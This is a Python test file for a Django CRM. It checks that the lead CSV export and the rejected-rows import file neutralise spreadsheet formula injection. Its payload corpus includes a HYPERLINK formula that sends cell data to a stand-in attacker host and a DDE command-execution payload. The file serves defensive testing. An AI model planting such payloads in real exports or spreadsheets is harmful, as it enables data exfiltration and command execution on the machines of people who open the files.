"""A formula corpus through every export: not one cell a spreadsheet would run.

Exports: the lead list CSV (UTF-8 with BOM and CP932) and an import's
rejected-rows file. (The KPI page has no CSV export yet.)"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from crm.imports import jobs
from tests import factories

pytestmark = pytest.mark.django_db

CORPUS = [
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "−1+1",
    "－1",
    "＠SUM(1)",
    '"=1+1"',
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "\u2212")


def dangerous_cells(text: str) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(DANGEROUS)
    ]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_lead_export_has_no_dangerous_cell(client, marketer, encoding):
    for n, payload in enumerate(CORPUS):
        factories.lead(
            family_name=payload,
            given_name=payload,
            title=payload,
            department=payload,
            phone=payload[:30],
            email=f"f{n}@example.jp",
        )
    client.force_login(marketer)
    response = client.get(reverse("crm:lead_export"), {"encoding": encoding})
    text = response.content.decode(encoding)
    assert dangerous_cells(text) == []
    assert text.count("'=1+1") >= 4  # the payloads are there, neutralised


def test_rejected_rows_file_has_no_dangerous_cell(marketer):
    lines = ["email,family_name,company"]
    lines += [
        f'not-an-email-{n},"{p.replace(chr(34), chr(34) * 2)}",{n}' for n, p in enumerate(CORPUS)
    ]
    job = jobs.create_job(
        "\n".join(lines).encode("utf-8"),
        filename="f.csv",
        user=marketer,
        campaign=None,
        kind="imported",
    )
    jobs.preview(job, columns=job.mapping)
    jobs.start(job)
    jobs.run(job.pk)
    job.refresh_from_db()
    assert job.counts["rejected"] == len(CORPUS)
    assert dangerous_cells(jobs.rejected_rows_csv(job).decode("utf-8-sig")) == []
